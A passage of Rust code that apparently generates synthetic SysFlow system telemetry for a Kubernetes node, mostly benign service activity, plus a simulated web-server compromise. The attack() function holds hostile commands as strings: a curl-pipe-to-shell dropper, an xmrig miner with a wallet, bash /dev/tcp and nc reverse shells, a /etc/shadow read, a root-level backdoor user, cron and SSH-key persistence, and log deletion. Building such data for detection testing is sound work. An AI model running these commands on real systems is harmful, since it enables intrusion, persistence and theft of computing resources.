                    let f = *self.rng.pick(&NGINX_FILES);
                    let size = self.rng.range(600, 180_000);
                    let reads = (size / 32_768).max(1);
                    self.ff(pi, f, b'f', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_NONBLOCK, reads, 0, size / reads);
                } else if roll < 55 {
                    let n = self.rng.range(3, 40);
                    self.ff(pi, "/var/log/nginx/access.log", b'f', OP_WRITE_SEND | OP_DIGEST, O_WRONLY | O_CREAT | O_APPEND, 0, n, 180);
                } else if roll < 85 {
                    let c = *self.rng.pick(&CLIENTS);
                    let (r, w) = (self.rng.range(300, 1_500), self.rng.range(800, 250_000));
                    self.accept(pi, ip(c), 80, r, w);
                } else {
                    let api = self.svc_ip(1);
                    let (r, w) = (self.rng.range(500, 40_000), self.rng.range(300, 2_000));
                    self.connect(pi, api, 8000, TCP, r, w);
                }
            }
            Role::Gunicorn => {
                if roll < 25 {
                    let f = *self.rng.pick(&PY_FILES);
                    let size = self.rng.range(400, 60_000);
                    self.read_file(pi, f, size);
                } else if roll < 45 {
                    let front = self.ctrs[0].ip;
                    let (r, w) = (self.rng.range(300, 2_000), self.rng.range(500, 40_000));
                    self.accept(pi, front, 8000, r, w);
                } else if roll < 65 {
                    let sip = self.own_ip(pi);
                    let dip = self.svc_ip(2);
                    let sport = 40_000 + (self.procs[pi].p.oid.hpid % 1000) as i32;
                    let n = self.rng.range(5, 300);
                    self.nf(pi, OP_WRITE_SEND | OP_READ_RECV | OP_DIGEST, sip, sport, dip, 6379, TCP, n, n, n * 60, n * 40);
                } else if roll < 85 {
                    let sip = self.own_ip(pi);
                    let dip = self.svc_ip(3);
                    let sport = 41_000 + (self.procs[pi].p.oid.hpid % 1000) as i32;
                    let n = self.rng.range(2, 80);
                    self.nf(pi, OP_WRITE_SEND | OP_READ_RECV | OP_DIGEST, sip, sport, dip, 5432, TCP, n * 2, n, n * 900, n * 120);
                } else if roll < 95 {
                    self.dns(pi);
                } else {
                    let n = self.counter % 64;
                    let path = format!("/tmp/wgunicorn-{n:02x}");
                    self.ff(pi, &path, b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_RDWR | O_CREAT | O_CLOEXEC, 0, 1, 1);
                }
            }
            Role::Redis => {
                if roll < 55 {
                    let from = self.ctrs[1].ip;
                    let sip = from;
                    let sport = self.rng.range(40_000, 41_000) as i32;
                    let dip = self.own_ip(pi);
                    let n = self.rng.range(5, 300);
                    self.nf(pi, OP_READ_RECV | OP_WRITE_SEND | OP_DIGEST, sip, sport, dip, 6379, TCP, n, n, n * 40, n * 60);
                } else if roll < 90 {
                    let n = self.rng.range(5, 300);
                    self.ff(pi, "/data/appendonly.aof", b'f', OP_WRITE_SEND | OP_DIGEST, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0, n, 70);
                } else {
                    let tmp = format!("/data/temp-{}.rdb", self.procs[pi].p.oid.hpid);
                    let size = self.rng.range(100_000, 4_000_000);
                    self.write_file(pi, &tmp, size);
                    self.file_event(pi, OP_RENAME, &tmp, b'f', Some("/data/dump.rdb"), 0);
                }
            }
            Role::Postgres => {
                if roll < 50 {
                    let rel = 16_384 + self.rng.below(40) as i64;
                    let path = format!("/var/lib/postgresql/data/base/16384/{rel}");
                    let n = self.rng.range(1, 200);
                    let w = self.rng.range(0, n / 4);
                    let ops = if w > 0 { OP_READ_RECV | OP_WRITE_SEND | OP_DIGEST } else { OP_READ_RECV | OP_DIGEST };
                    self.ff(pi, &path, b'f', ops, O_RDWR | O_LARGEFILE | O_CLOEXEC, n, w, 8_192);
                } else if roll < 70 {
                    let seg = 0x40 + (self.counter / 50_000) % 64;
                    let path = format!("/var/lib/postgresql/data/pg_wal/0000000100000000000000{seg:02X}");
                    let n = self.rng.range(1, 50);
                    self.ff(pi, &path, b'f', OP_WRITE_SEND | OP_DIGEST, O_RDWR | O_LARGEFILE | O_CLOEXEC, 0, n, 8_192);
                } else {
                    let sip = self.ctrs[1].ip;
                    let sport = self.rng.range(41_000, 42_000) as i32;
                    let dip = self.own_ip(pi);
                    let n = self.rng.range(2, 80);
                    self.nf(pi, OP_READ_RECV | OP_WRITE_SEND | OP_DIGEST, sip, sport, dip, 5432, TCP, n, n * 2, n * 120, n * 900);
                }
            }
            Role::CoreDns => {
                if roll < 80 {
                    let from = self.ctrs[self.rng.below(self.ctrs.len() as u64) as usize].ip;
                    let sport = self.ephemeral();
                    let dip = self.own_ip(pi);
                    self.nf(pi, OP_READ_RECV | OP_WRITE_SEND, from, sport, dip, 53, UDP, 1, 1, 40, 120);
                } else if roll < 95 {
                    self.connect(pi, ip_le(8, 8, 8, 8), 53, UDP, 130, 40);
                } else {
                    self.read_file(pi, "/etc/coredns/Corefile", 250);
                }
            }
            Role::Kubelet => {
                if roll < 45 {
                    let target = self.rng.below(self.world_len as u64) as usize;
                    let hpid = self.procs[target].p.oid.hpid;
                    let path = format!("/proc/{}/stat", hpid % 100_000);
                    self.ff(pi, &path, b'f', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_CLOEXEC, 1, 0, 320);
                } else if roll < 65 {
                    let ci = self.rng.below(self.ctrs.len() as u64) as usize;
                    let pod = self.ctrs[ci].pod.id.clone();
                    let file = *self.rng.pick(&["cpu.stat", "memory.current", "io.stat", "pids.current"]);
                    let path = format!("/sys/fs/cgroup/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{}.slice/{file}", pod.as_str().replace('-', "_"));
                    self.ff(pi, &path, b'f', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_CLOEXEC, 1, 0, 200);
                } else if roll < 85 {
                    let a = API_SERVER;
                    let sip = self.node_ip;
                    let n = self.rng.range(1, 40);
                    self.nf(pi, OP_WRITE_SEND | OP_READ_RECV | OP_DIGEST, sip, 52_114, ip_le(a[0], a[1], a[2], a[3]), 6443, TCP, n, n, n * 2_000, n * 600);
                } else {
                    let ci = self.rng.below(self.ctrs.len() as u64) as usize;
                    let (dip, port) = (self.ctrs[ci].ip, APPS[ci].port);
                    if port == 53 {
                        self.connect(pi, dip, 8080, TCP, 140, 110);
                    } else {
                        self.connect(pi, dip, port, TCP, 140, 110);
                    }
                }
            }
            Role::Containerd => {
                if roll < 60 {
                    let n = self.rng.range(1, 20);
                    self.ff(pi, "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db", b'f', OP_READ_RECV | OP_WRITE_SEND | OP_DIGEST, O_RDWR | O_CREAT | O_CLOEXEC, n, n / 2, 4_096);
                } else {
                    let n = self.rng.range(1, 30);
                    self.ff(pi, "/run/containerd/containerd.sock", b'u', OP_READ_RECV | OP_WRITE_SEND | OP_DIGEST, 0, n, n, 300);
                }
            }
            Role::Shim => {
                let n = self.rng.range(1, 10);
                let pipe = format!("pipe:[{}]", 40_000 + self.procs[pi].p.oid.hpid);
                self.ff(pi, &pipe, b'p', OP_READ_RECV | OP_DIGEST, O_RDONLY | O_NONBLOCK, n, 0, 120);
            }
            Role::Sshd => {
                let c = CLIENTS[4];
                let sip = ip_le(c[0], c[1], c[2], c[3]);
                let dip = self.node_ip;
                let n = self.rng.range(1, 60);
                self.nf(pi, OP_READ_RECV | OP_WRITE_SEND | OP_DIGEST, sip, 51_514, dip, 22, TCP, n, n * 2, n * 52, n * 400);
            }
            Role::Shell => {
                let n = self.rng.range(1, 3);
                self.ff(pi, "/home/ubuntu/.bash_history", b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_APPEND, 0, n, 24);
            }
            Role::Systemd => {
                if roll < 50 {
                    self.ff(pi, "/proc/self/mountinfo", b'f', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_CLOEXEC, 3, 0, 1_300);
                } else {
                    let n = self.rng.range(1, 20);
                    self.ff(pi, "/run/systemd/journal/socket", b'u', OP_WRITE_SEND | OP_DIGEST, 0, 0, n, 160);
                }
            }
            Role::Cron => {
                self.read_file(pi, "/etc/crontab", 1_136);
            }
            Role::Miner => {
                let sip = self.own_ip(pi);
                let p = MINING_POOL;
                let n = self.rng.range(1, 20);
                self.nf(pi, OP_WRITE_SEND | OP_READ_RECV | OP_DIGEST, sip, 44_321, ip_le(p[0], p[1], p[2], p[3]), 3333, TCP, n, n, n * 300, n * 180);
            }
            Role::Tool => {}
        }
    }

    /// A short-lived tool run by a shell, cron, the kubelet or an exec probe.
    fn run_tool(&mut self) {
        let kind = self.rng.below(12);
        let ip = |a: [u8; 4]| ip_le(a[0], a[1], a[2], a[3]);
        match kind {
            0 => {
                let sh = self.shells[0];
                let t = self.spawn(sh, "/usr/bin/ls", "--color=auto -la /var/log", Role::Tool);
                self.ff(t, "/var/log", b'd', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_NONBLOCK | O_DIRECTORY | O_CLOEXEC, 2, 0, 2_048);
                self.exit(t, 0);
            }
            1 => {
                let sh = self.shells[0];
                let f = *self.rng.pick(&HOST_READS);
                let t = self.spawn(sh, "/usr/bin/cat", f, Role::Tool);
                self.read_file(t, f, 900);
                self.exit(t, 0);
            }
            2 => {
                let sh = self.shells[0];
                let t = self.spawn(sh, "/usr/bin/grep", "-i error /var/log/syslog", Role::Tool);
                self.read_file(t, "/var/log/syslog", 260_000);
                self.exit(t, 1);
            }
            3 => {
                let sh = self.shells[0];
                let t = self.spawn(sh, "/usr/bin/ps", "aux", Role::Tool);
                for _ in 0..4 {
                    let target = self.rng.below(self.world_len as u64) as usize;
                    let path = format!("/proc/{}/cmdline", self.procs[target].p.oid.hpid % 100_000);
                    self.read_file(t, &path, 120);
                }
                self.exit(t, 0);
            }
            4 => {
                let sh = self.shells[0];
                let t = self.spawn(sh, "/usr/local/bin/kubectl", "get pods -A", Role::Tool);
                self.read_file(t, "/home/ubuntu/.kube/config", 5_600);
                self.connect(t, ip(API_SERVER), 6443, TCP, 48_000, 3_000);
                self.exit(t, 0);
            }
            5 => {
                let sh = self.shells[0];
                let t = self.spawn(sh, "/usr/bin/curl", "-s https://api.github.com/repos/sysflow-telemetry/sf-processor/releases", Role::Tool);
                self.read_file(t, "/etc/resolv.conf", 180);
                self.dns(t);
                self.connect(t, ip_le(140, 82, 112, 6), 443, TCP, 38_000, 1_100);
                self.exit(t, 0);
            }
            6 => {
                let n = self.counter % 256;
                let sh = self.shells[0];
                let dir = format!("/tmp/build-{n:02x}");
                let t = self.spawn(sh, "/usr/bin/mkdir", &format!("-p {dir}"), Role::Tool);
                self.file_event(t, OP_MKDIR, &dir, b'd', None, 0);
                self.exit(t, 0);
                let t = self.spawn(sh, "/usr/bin/tar", &format!("czf {dir}/etc.tgz /etc/nginx"), Role::Tool);
                self.read_file(t, "/etc/nginx/nginx.conf", 1_450);
                let out = format!("{dir}/etc.tgz");
                self.write_file(t, &out, 9_800);
                self.exit(t, 0);
                let t = self.spawn(sh, "/usr/bin/rm", &format!("-rf {dir}"), Role::Tool);
                self.file_event(t, OP_UNLINK, &out, b'f', None, 0);
                self.file_event(t, OP_RMDIR, &dir, b'd', None, 0);
                self.exit(t, 0);
            }
            7 => {
                let cron = self.cron;
                let sh = self.spawn(cron, "/bin/sh", "-c test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf", Role::Tool);
                let t = self.spawn(sh, "/usr/sbin/logrotate", "/etc/logrotate.conf", Role::Tool);
                self.read_file(t, "/etc/logrotate.conf", 600);
                self.read_file(t, "/var/lib/logrotate/status", 3_200);
                self.file_event(t, OP_RENAME, "/var/log/syslog", b'f', Some("/var/log/syslog.1"), 0);
                self.write_file(t, "/var/log/syslog", 0);
                self.write_file(t, "/var/lib/logrotate/status.tmp", 3_200);
                self.file_event(t, OP_RENAME, "/var/lib/logrotate/status.tmp", b'f', Some("/var/lib/logrotate/status"), 0);
                self.exit(t, 0);
                self.exit(sh, 0);
            }
            8 => {
                let k = self.kubelet;
                let t = self.spawn(k, "/usr/sbin/iptables", "-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle", Role::Tool);
                self.ff(t, "/run/xtables.lock", b'f', OP_OPEN | OP_CLOSE, O_RDWR | O_CREAT | O_CLOEXEC, 0, 0, 0);
                self.exit(t, 1);
            }
            9 => {
                // exec liveness probe in the redis container
                let shim = self.ctrs[2].shim;
                let t = self.spawn_in_ctr(shim, 2, "/usr/local/bin/redis-cli", "ping", 999, "redis");
                let dip = ip_le(127, 0, 0, 1);
                let sport = self.ephemeral();
                self.nf(t, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_CLOSE, dip, sport, dip, 6379, TCP, 1, 1, 7, 14);
                self.exit(t, 0);
            }
            10 => {
                let shim = self.ctrs[3].shim;
                let t = self.spawn_in_ctr(shim, 3, "/usr/lib/postgresql/16/bin/pg_isready", "-U app -h 127.0.0.1", 999, "postgres");
                let dip = ip_le(127, 0, 0, 1);
                let sport = self.ephemeral();
                self.nf(t, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_CLOSE, dip, sport, dip, 5432, TCP, 1, 1, 24, 8);
                self.exit(t, 0);
            }
            _ => {
                // a gunicorn worker runs a helper script
                let w = self.ctrs[1].entry;
                let t = self.spawn(w, "/usr/local/bin/python3.11", "/app/scripts/refresh_cache.py --ttl 300", Role::Tool);
                self.read_file(t, "/app/scripts/refresh_cache.py", 3_100);
                let dip = self.svc_ip(2);
                self.connect(t, dip, 6379, TCP, 2_000, 9_000);
                self.exit(t, 0);
            }
        }
    }

    /// An exec into a container: the shim clones, the child joins the container.
    fn spawn_in_ctr(&mut self, shim: usize, ci: usize, exe: &str, args: &str, uid: i32, user: &str) -> usize {
        self.ensure_ctr(ci);
        self.ensure_proc(shim);
        self.next_pid += self.rng.range(1, 7);
        let pid = self.next_pid;
        self.proc_event(shim, OP_CLONE, pid as i32, &[]);
        let ts = self.tick();
        let cwd = APPS[ci].cwd;
        let child = self.add_proc(Some(shim), pid, ts, exe, args, uid, user, Some(ci), false, cwd, Role::Tool);
        self.procs[child].emitted = true;
        let mut p = self.procs[child].p.clone();
        p.ts = ts;
        self.push(SysFlowRecord::Process(p));
        self.proc_event(child, OP_EXEC, 0, &[]);
        child
    }

    fn file_events(&mut self) {
        let n = self.counter % 128;
        match self.rng.below(4) {
            0 => {
                // gunicorn heartbeat files come and go
                let w = self.ctrs[1].entry;
                let path = format!("/tmp/wgunicorn-{:02x}", n % 64);
                self.file_event(w, OP_UNLINK, &path, b'f', None, 0);
            }
            1 => {
                let pg = self.ctrs[3].entry;
                let path = format!("/var/lib/postgresql/data/pg_stat_tmp/global.tmp.{n}");
                self.write_file(pg, &path, 4_400);
                self.file_event(pg, OP_RENAME, &path, b'f', Some("/var/lib/postgresql/data/pg_stat_tmp/global.stat"), 0);
            }
            2 => {
                let c = self.containerd;
                let id = &self.ctrs[(n % 5) as usize].c.id;
                let path = format!("/run/containerd/io.containerd.runtime.v2.task/k8s.io/{id}/rootfs-{n}");
                self.file_event(c, OP_MKDIR, &path, b'd', None, 0);
            }
            _ => {
                let k = self.kubelet;
                let target = "/var/log/pods/shop_api/api/0.log";
                let link = format!("/var/log/containers/api_shop_api-{n}.log");
                self.file_event(k, OP_SYMLINK, target, b'f', Some(&link), 0);
            }
        }
    }

    fn k8s_update(&mut self) {
        let ci = self.rng.below(self.ctrs.len() as u64) as usize;
        self.ensure_ctr(ci);
        let ts = self.tick();
        let mut pod = self.ctrs[ci].pod.clone();
        pod.ts = ts;
        self.push(SysFlowRecord::Pod(pod));
        let msg = self.pod_json(ci, "MODIFIED");
        let ts = self.tick();
        self.push_event(Event::K8s(K8sEvent { kind: 2, action: 1, ts, message: msg.into() }));
    }

    fn sudo(&mut self) {
        let sh = self.shells[0];
        let t = self.spawn(sh, "/usr/bin/sudo", "systemctl status kubelet", Role::Tool);
        self.read_file(t, "/etc/sudoers", 1_800);
        self.setuid(t, 0, "root");
        let c = self.spawn(t, "/usr/bin/systemctl", "status kubelet", Role::Tool);
        self.ff(c, "/run/systemd/private", b'u', OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_CLOSE, 0, 4, 2, 900);
        self.exit(c, 3);
        self.exit(t, 3);
    }

    fn process_flow(&mut self) {
        let w = self.ctrs[1].entry;
        self.ensure_proc(w);
        let ts = self.tick();
        let oid = self.procs[w].p.oid;
        let n = self.rng.range(1, 8);
        let end_ts = ts + self.rng.range(1_000_000, 900_000_000);
        self.push_event(Event::ProcessFlow(ProcessFlow {
            proc_oid: oid,
            ts,
            num_threads_cloned: n,
            op_flags: OP_CLONE | OP_EXIT,
            end_ts,
            num_threads_exited: n,
            num_clone_errors: 0,
        }));
    }

    fn network_event(&mut self) {
        let w = self.ctrs[1].entry;
        self.ensure_proc(w);
        let ts = self.tick();
        let oid = self.procs[w].p.oid;
        let sip = self.own_ip(w);
        let sport = self.ephemeral();
        let dip = self.svc_ip(3);
        self.push_event(Event::Network(NetworkEvent {
            proc_oid: oid,
            ts,
            tid: oid.hpid,
            op_flags: OP_CONNECT,
            sip,
            sport,
            dip,
            dport: 5432,
            proto: TCP,
            ret: -111, // ECONNREFUSED while postgres restarts
        }));
    }

    /// Web-server compromise in the frontend container: RCE through nginx, recon,
    /// /etc/shadow read, dropper download, binary written to /bin, a miner, a reverse
    /// shell (bash and nc), privilege escalation, a backdoor user and cron persistence.
    fn attack(&mut self) {
        let ip = |a: [u8; 4]| ip_le(a[0], a[1], a[2], a[3]);
        let worker = self
            .actors
            .iter()
            .map(|&(i, _)| i)
            .find(|&i| self.procs[i].role == Role::Nginx && !self.procs[i].p.entry)
            .unwrap_or(self.ctrs[0].entry);
        self.accept(worker, ip(ATTACKER), 80, 2_400, 320);
        let sh = self.spawn(worker, "/bin/sh", "-c curl -s http://203.0.113.66/k.sh | sh", Role::Tool);

        let t = self.spawn(sh, "/usr/bin/id", "", Role::Tool);
        self.read_file(t, "/etc/passwd", 1_200);
        self.read_file(t, "/etc/group", 600);
        self.exit(t, 0);

        let t = self.spawn(sh, "/bin/cat", "/etc/shadow", Role::Tool);
        self.ff(t, "/etc/shadow", b'f', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY, 1, 0, 980);
        self.exit(t, 0);

        let t = self.spawn(sh, "/bin/mkdir", "-p /tmp/.x", Role::Tool);
        self.file_event(t, OP_MKDIR, "/tmp/.x", b'd', None, 0);
        self.exit(t, 0);

        let t = self.spawn(sh, "/usr/bin/curl", "-s -o /tmp/.x/kworkerd http://203.0.113.66/xmrig", Role::Tool);
        self.read_file(t, "/etc/resolv.conf", 180);
        self.dns(t);
        self.connect(t, ip(DROPPER), 80, TCP, 2_621_440, 210);
        self.write_file(t, "/tmp/.x/kworkerd", 2_621_440);
        self.exit(t, 0);

        let t = self.spawn(sh, "/bin/chmod", "+x /tmp/.x/kworkerd", Role::Tool);
        self.exit(t, 0);

        let t = self.spawn(sh, "/bin/cp", "/tmp/.x/kworkerd /bin/kworkerd", Role::Tool);
        self.read_file(t, "/tmp/.x/kworkerd", 2_621_440);
        self.write_file(t, "/bin/kworkerd", 2_621_440);
        self.exit(t, 0);

        let t = self.spawn(sh, "/bin/ln", "-s /etc/shadow /tmp/.x/.s", Role::Tool);
        self.file_event(t, OP_SYMLINK, "/etc/shadow", b'f', Some("/tmp/.x/.s"), 0);
        self.exit(t, 0);

        let t = self.spawn(sh, "/bin/mv", "/tmp/.x/kworkerd /tmp/.x/.kworkerd", Role::Tool);
        self.file_event(t, OP_RENAME, "/tmp/.x/kworkerd", b'f', Some("/tmp/.x/.kworkerd"), 0);
        self.exit(t, 0);

        let miner = self.spawn(sh, "/bin/kworkerd", "-o stratum+tcp://45.9.148.99:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1 -B", Role::Miner);
        self.read_file(miner, "/proc/cpuinfo", 9_000);
        self.read_file(miner, "/sys/devices/system/cpu/cpu0/cache/index3/size", 8);
        let sip = self.own_ip(miner);
        self.nf(miner, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_DIGEST, sip, 44_321, ip(MINING_POOL), 3333, TCP, 4, 4, 1_400, 600);
        let ts = self.tick();
        let moid = self.procs[miner].p.oid;
        self.push_event(Event::ProcessFlow(ProcessFlow {
            proc_oid: moid,
            ts,
            num_threads_cloned: 8,
            op_flags: OP_CLONE,
            end_ts: ts + 5_000_000,
            num_threads_exited: 0,
            num_clone_errors: 0,
        }));
        for _ in 0..6 {
            self.act(miner);
        }
        if self.cfg.scenario == Scenario::Attack && self.attack_round == 0 {
            // keeps mining in the background of later rounds
            self.add_actor(miner, 40);
        } else {
            self.exit(miner, 0);
        }

        let rs = self.spawn(sh, "/bin/bash", "-c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", Role::Tool);
        let sip = self.own_ip(rs);
        let sport = self.ephemeral();
        self.nf(rs, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV, sip, sport, ip(REVERSE_SHELL), 4444, TCP, 12, 15, 640, 8_900);
        let t = self.spawn(rs, "/usr/bin/whoami", "", Role::Tool);
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/su", "-", Role::Tool);
        self.read_file(t, "/etc/shadow", 980);
        self.setuid(t, 0, "root");
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/uname", "-a", Role::Tool);
        self.exit(t, 0);
        let t = self.spawn(rs, "/usr/sbin/useradd", "-o -u 0 -g 0 -M -d /root -s /bin/bash sysupd", Role::Tool);
        self.read_file(t, "/etc/login.defs", 10_700);
        self.ff(t, "/etc/passwd", b'f', OP_OPEN | OP_READ_RECV | OP_WRITE_SEND | OP_CLOSE, O_RDWR | O_CLOEXEC, 1, 1, 1_300);
        self.ff(t, "/etc/shadow", b'f', OP_OPEN | OP_READ_RECV | OP_WRITE_SEND | OP_CLOSE, O_RDWR | O_CLOEXEC, 1, 1, 1_000);
        self.exit(t, 0);
        let t = self.spawn(rs, "/usr/bin/nc", "-e /bin/sh 198.51.100.23 4445", Role::Tool);
        let sip = self.own_ip(t);
        let sport = self.ephemeral();
        self.nf(t, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_CLOSE, sip, sport, ip(REVERSE_SHELL), 4445, TCP, 6, 9, 310, 4_200);
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/sh", "-c echo '*/5 * * * * root /bin/kworkerd' >> /etc/crontab", Role::Tool);
        self.ff(t, "/etc/crontab", b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_APPEND, 0, 1, 44);
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/sh", "-c echo '* * * * * root /bin/kworkerd' > /etc/cron.d/kworker", Role::Tool);
        self.ff(t, "/etc/cron.d/kworker", b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_TRUNC, 0, 1, 36);
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/mkdir", "-p /root/.ssh", Role::Tool);
        self.file_event(t, OP_MKDIR, "/root/.ssh", b'd', None, -17);
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/sh", "-c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker >> /root/.ssh/authorized_keys", Role::Tool);
        self.ff(t, "/root/.ssh/authorized_keys", b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_APPEND, 0, 1, 96);
        self.exit(t, 0);
        let t = self.spawn(rs, "/bin/rm", "-f /var/log/nginx/access.log", Role::Tool);
        self.file_event(t, OP_UNLINK, "/var/log/nginx/access.log", b'f', None, 0);
        self.exit(t, 0);
        self.exit(rs, 0);
        self.exit(sh, 0);
    }
}

impl Iterator for Generator {
    type Item = SysFlowRecord;

    fn next(&mut self) -> Option<SysFlowRecord> {
        if self.yielded >= self.cfg.records {
            return None;
        }
        while self.queue.is_empty() {
            self.step();
        }
        self.yielded += 1;
        self.queue.pop_front()
    }
}
